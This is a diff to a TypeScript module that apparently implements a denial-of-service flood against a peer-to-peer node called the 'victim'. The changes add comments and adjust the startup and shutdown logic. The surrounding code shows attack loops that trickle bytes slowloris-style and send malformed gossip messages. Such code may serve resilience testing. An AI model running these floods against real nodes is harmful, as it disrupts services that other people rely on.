@@ -96,7 +96,8 @@ async function authenticatedConnection (node: TzNode, victim: ReturnType<typeof 
   return c
 }
 
-export async function startFlood (options: FloodOptions): Promise<Flood> {
+/** Starts the attacking loops at once; they run until `stop`. */
+export function startFlood (options: FloodOptions): Flood {
   const counts: FloodCounts = { dials: 0, refused: 0, authenticated: 0, streams: 0, syncRequests: 0, garbage: 0, bytesTrickled: 0 }
   const kinds = { slowloris: 0, streams: 0, 'sync-flood': 0, garbage: 0 }
   const victim = multiaddr(options.victim)
@@ -153,7 +154,9 @@ export async function startFlood (options: FloodOptions): Promise<Flood> {
             counts.bytesTrickled++
             await sleep(200)
           }
-        } catch {}
+        } catch {
+          // The victim cut the connection or refused the stream: dial again.
+        }
         await c.close().catch(() => {})
       }
     },
@@ -200,7 +203,9 @@ export async function startFlood (options: FloodOptions): Promise<Flood> {
           const stream = await c.newStream(GOSSIP_PROTOCOL)
           stream.send(new Uint8Array([0xff, 0xff, 0xff, 0xf0, 0, 0x10]))
           counts.garbage++
-        } catch {}
+        } catch {
+          // The victim refused the stream or closed the connection: the attacker starts over.
+        }
       })
     }
   }
@@ -217,7 +222,8 @@ export async function startFlood (options: FloodOptions): Promise<Flood> {
     kinds,
     stop: async () => {
       running = false
-      await Promise.all(hosts.map(async h => { try { await h.stop() } catch {} }))
+      // A host that fails to stop (its connections already torn down) must not keep the others from stopping.
+      await Promise.all(hosts.map(async h => { try { await h.stop() } catch { /* nothing left to stop */ } }))
       // Loops end at their next check of `running`; one stuck on a dead stream is not waited for.
       let timer: NodeJS.Timeout | undefined
       await Promise.race([Promise.all(loops), new Promise(resolve => { timer = setTimeout(resolve, 3000); timer.unref() })])
